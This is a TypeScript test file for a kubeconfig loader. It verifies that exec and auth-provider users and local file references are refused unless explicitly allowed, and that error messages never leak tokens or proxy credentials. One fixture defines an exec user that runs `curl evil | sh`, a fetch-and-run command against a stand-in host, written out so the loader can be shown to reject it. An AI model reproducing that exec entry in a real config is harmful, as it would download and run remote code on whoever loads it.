/**
 * Kubeconfig loading: users with exec / auth-provider and local file references are refused unless allowed,
 * the error names the user (or cluster) and field, and no credential ever appears in a message.
 */
import { assert, describe, it } from "@effect/vitest"
import { Effect, Layer, Option } from "effect"
import { KubeApi } from "../../../src/effects/KubeApi.ts"
import { layerLive } from "../../../src/effects/kube/clients.ts"
import { checkKubeconfig, loadKubeconfig } from "../../../src/effects/kube/kubeconfig.ts"

const TOKEN = "s3cr3t-t0ken-value"
const CA = "LS0tLS1CRUdJTi1GQUtFLUNBLS0tLS0="

const kubeconfig = (users: string, extraClusterFields = "") => `apiVersion: v1
kind: Config
current-context: remote
clusters:
- name: remote
  cluster:
    server: https://127.0.0.1:6443
    certificate-authority-data: ${CA}${extraClusterFields}
contexts:
- name: remote
  context:
    cluster: remote
    user: operator
users:
${users}
`

const tokenUser = `- name: operator
  user:
    token: ${TOKEN}`

const execUser = `- name: sneaky
  user:
    exec:
      apiVersion: client.authentication.k8s.io/v1
      command: /bin/sh
      args: ["-c", "curl evil | sh"]`

const authProviderUser = `- name: legacy
  user:
    auth-provider:
      name: oidc
      config:
        id-token: ${TOKEN}`

describe("kubeconfig checks", () => {
  const cases = [
    {
      name: "ExecUserIsRefused",
      yaml: kubeconfig(`${tokenUser}\n${execUser}`),
      tag: "ExecAuthRejected",
      mentions: ['user "sneaky"', "exec"]
    },
    {
      name: "AuthProviderUserIsRefused",
      yaml: kubeconfig(`${tokenUser}\n${authProviderUser}`),
      tag: "ExecAuthRejected",
      mentions: ['user "legacy"', "auth-provider"]
    },
    {
      name: "TokenFileIsRefused",
      yaml: kubeconfig(`- name: operator\n  user:\n    tokenFile: /var/run/secrets/kubernetes.io/serviceaccount/token`),
      tag: "FileReferenceRejected",
      mentions: ['user "operator"', "tokenFile"]
    },
    {
      name: "ClientKeyFileIsRefused",
      yaml: kubeconfig(
        `- name: operator\n  user:\n    client-certificate: /etc/cert.pem\n    client-key: /etc/key.pem`
      ),
      tag: "FileReferenceRejected",
      mentions: ["client-certificate"]
    },
    {
      name: "CertificateAuthorityFileIsRefused",
      yaml: kubeconfig(tokenUser, "\n    certificate-authority: /etc/ca.pem"),
      tag: "FileReferenceRejected",
      mentions: ['cluster "remote"', "certificate-authority"]
    },
    {
      name: "BrokenYamlNamesOnlyTheLine",
      yaml: `users:\n- name: x\n  user:\n    token: ${TOKEN}\n   bad: [unclosed`,
      tag: "InvalidKubeconfig",
      mentions: ["not valid YAML"]
    },
    {
      name: "NotAKubeconfig",
      yaml: "users: 42\n",
      tag: "InvalidKubeconfig",
      mentions: ["not a kubeconfig"]
    }
  ] as const

  it.each(cases)("$name", ({ yaml, tag, mentions }) => {
    const refused = checkKubeconfig(yaml)
    assert.isTrue(Option.isSome(refused))
    const error = Option.getOrThrow(refused)
    assert.strictEqual(error.reason._tag, tag)
    for (const m of mentions) assert.include(error.message, m)
    assert.notInclude(error.message, TOKEN)
    assert.notInclude(error.message, CA)
  })

  it("a plain token kubeconfig passes", () => {
    assert.isTrue(Option.isNone(checkKubeconfig(kubeconfig(tokenUser))))
  })

  it("exec and auth-provider pass with allowExecAuth, file references with allowFileReferences", () => {
    assert.isTrue(Option.isNone(checkKubeconfig(kubeconfig(`${tokenUser}\n${execUser}`), { allowExecAuth: true })))
    assert.isTrue(
      Option.isNone(checkKubeconfig(kubeconfig(`${tokenUser}\n${authProviderUser}`), { allowExecAuth: true }))
    )
    assert.isTrue(
      Option.isNone(
        checkKubeconfig(kubeconfig(tokenUser, "\n    certificate-authority: /etc/ca.pem"), {
          allowFileReferences: true
        })
      )
    )
  })
})

describe("loadKubeconfig", () => {
  it.effect("loads a token kubeconfig with its current context", () =>
    Effect.gen(function* () {
      const kc = yield* loadKubeconfig(kubeconfig(tokenUser))
      assert.strictEqual(kc.getCurrentContext(), "remote")
      assert.strictEqual(kc.getCurrentCluster()?.server, "https://127.0.0.1:6443")
    })
  )

  it.effect("refuses an unknown context and a context without cluster", () =>
    Effect.gen(function* () {
      const unknown = yield* Effect.flip(loadKubeconfig(kubeconfig(tokenUser), { context: "elsewhere" }))
      assert.strictEqual(unknown.reason._tag, "InvalidKubeconfig")
      assert.include(unknown.message, 'context "elsewhere" not found')
      const noCurrent = yield* Effect.flip(loadKubeconfig(kubeconfig(tokenUser).replace("current-context: remote", "")))
      assert.strictEqual(noCurrent.reason._tag, "InvalidKubeconfig")
    })
  )

  it.effect("proxy-url: HTTP(S) and SOCKS5 load; another scheme is refused without echoing the URL", () =>
    Effect.gen(function* () {
      for (const ok of ["http://proxy:3128", "https://proxy:3128", "socks5://proxy:1080", "socks://proxy:1080"])
        yield* loadKubeconfig(kubeconfig(tokenUser, `\n    proxy-url: ${ok}`))
      const refused = yield* Effect.flip(
        loadKubeconfig(kubeconfig(tokenUser, "\n    proxy-url: socks4://user:pw@proxy:1080"))
      )
      assert.strictEqual(refused.reason._tag, "InvalidKubeconfig")
      assert.include(refused.message, "proxy-url scheme 'socks4' is not supported")
      assert.notInclude(refused.message, "pw@")
    })
  )

  it.effect("layerLive fails to build for an exec kubeconfig, naming user and field but no secret", () =>
    Effect.gen(function* () {
      const layer = layerLive(kubeconfig(`${tokenUser}\n${execUser}`))
      const error = yield* Effect.flip(Layer.build(layer))
      assert.strictEqual(error._tag, "KubeconfigError")
      assert.strictEqual(error.reason._tag, "ExecAuthRejected")
      if (error.reason._tag === "ExecAuthRejected") {
        assert.strictEqual(error.reason.user, "sneaky")
        assert.strictEqual(error.reason.field, "exec")
      }
      assert.notInclude(error.message, TOKEN)
      assert.notInclude(error.message, "curl evil")
    })
  )

  it.effect("layerLive builds for the same kubeconfig with allowExecAuth", () =>
    Effect.gen(function* () {
      const api = yield* KubeApi
      assert.isFunction(api.get)
    }).pipe(Effect.provide(layerLive(kubeconfig(`${tokenUser}\n${execUser}`), { allowExecAuth: true })))
  )
})
